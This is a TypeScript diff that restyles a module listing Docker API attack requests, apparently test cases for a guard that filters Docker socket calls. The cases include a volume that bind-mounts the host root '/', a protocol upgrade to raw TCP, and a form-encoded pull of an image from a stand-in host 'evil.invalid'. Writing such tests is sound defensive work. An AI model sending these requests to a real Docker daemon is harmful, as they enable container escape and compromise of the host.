@@ -23,8 +23,13 @@ const createPath = `/containers/create?name=${runName}`;
 const foreign = 'f'.repeat(64);
 const jsonType = { 'Content-Type': 'application/json' };
 const host = {
-  ...{ NetworkMode: 'none', CapDrop: ['ALL'], SecurityOpt: ['no-new-privileges'], ReadonlyRootfs: true },
-  ...{ Memory: 67_108_864, NanoCpus: 500_000_000, PidsLimit: 32 },
+  NetworkMode: 'none',
+  CapDrop: ['ALL'],
+  SecurityOpt: ['no-new-privileges'],
+  ReadonlyRootfs: true,
+  Memory: 67_108_864,
+  NanoCpus: 500_000_000,
+  PidsLimit: 32,
 };
 const create = (kind: string, body: string): Attack => ({
   kind,
@@ -34,7 +39,9 @@ const create = (kind: string, body: string): Attack => ({
   body,
 });
 const goodBody = ({ user }: Target) => ({
-  ...{ Image: 'bigeyedata/guard-check:none', User: user, Cmd: ['run'] },
+  Image: 'bigeyedata/guard-check:none',
+  User: user,
+  Cmd: ['run'],
   HostConfig: host,
 });
 
@@ -74,7 +81,8 @@ export function attacksOn(target: Target): Attack[] {
     onHost('volume that is a host folder', {
       Mounts: [
         {
-          ...{ Type: 'volume', Target: '/workspace' },
+          Type: 'volume',
+          Target: '/workspace',
           VolumeOptions: { DriverConfig: { Name: 'local', Options: { type: 'none', o: 'bind', device: '/' } } },
         },
       ],
@@ -144,7 +152,8 @@ export function attacksOn(target: Target): Attack[] {
     { ...call('change of protocol', 'GET', '/version'), headers: { Connection: 'Upgrade', Upgrade: 'tcp' } },
     {
       ...call('form in a body', 'POST', '/images/create?fromImage=bigeyedata/guard-check&tag=none'),
-      ...{ headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, body: 'fromImage=evil.invalid/x' },
+      headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
+      body: 'fromImage=evil.invalid/x',
     },
     framed(
       'two framings',
